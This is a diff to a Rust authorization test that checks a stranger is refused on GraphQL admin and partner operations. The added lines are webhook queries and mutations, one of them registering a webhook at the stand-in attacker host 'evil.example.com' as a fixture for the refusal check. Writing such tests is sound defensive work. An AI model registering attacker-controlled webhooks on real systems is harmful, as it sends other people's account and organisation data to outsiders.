@@ -92,6 +92,11 @@ async fn sec_5_no_one_reads_or_changes_another_persons_account_or_organisation()
             ("Mutation.publishIncidentNotice", "mutation($u: ID!) { publishIncidentNotice(id: $u, notice: \"伪造公告\") { id } }", json!({ "u": uuid::Uuid::now_v7() })),
             ("Mutation.recordRegulatorReport", "mutation($u: ID!, $t: DateTime!) { recordRegulatorReport(id: $u, authority: \"x\", reference: \"x\", reportedAt: $t) { id } }", json!({ "u": uuid::Uuid::now_v7(), "t": chrono::Utc::now().to_rfc3339() })),
             ("Mutation.unmaskPersonalData", "mutation($u: ID!) { unmaskPersonalData(userId: $u, reason: \"我想看看\") { phone } }", json!({ "u": victim.id })),
+            // Partner-only: a person is refused the same way.
+            ("Query.webhooks", "{ webhooks { id } }", json!({})),
+            ("Mutation.registerWebhook", "mutation { registerWebhook(url: \"https://evil.example.com/h\", events: [\"accounts.organization.verified\"]) { secret } }", json!({})),
+            ("Mutation.deleteWebhook", "mutation($u: ID!) { deleteWebhook(id: $u) }", json!({ "u": uuid::Uuid::now_v7() })),
+            ("Mutation.pingWebhook", "mutation($u: ID!) { pingWebhook(id: $u) { id } }", json!({ "u": uuid::Uuid::now_v7() })),
         ];
         for (field, query, vars) in &admin_only {
             assert_eq!(run.call(field, query, vars.clone(), s).await.code(), Some("FORBIDDEN"), "{field} as a stranger");
@@ -152,6 +157,7 @@ async fn sec_5_no_one_reads_or_changes_another_persons_account_or_organisation()
             ("Query.policyVersion", "query($id: ID!) { policyVersion(id: $id) { version } }", json!({ "id": policy })),
             ("Query.purposes", "{ purposes { id } }", json!({})),
             ("Query.scopes", "{ scopes { id module description } }", json!({})),
+            ("Query.webhookEvents", "{ webhookEvents { id scope description } }", json!({})),
             ("Query.clientPermissions", "{ clientPermissions { permission } }", json!({})),
             ("Query.partnerRegister", "{ partnerRegister { purpose } }", json!({})),
             ("Query.incidentNotices", "{ incidentNotices { title } }", json!({})),
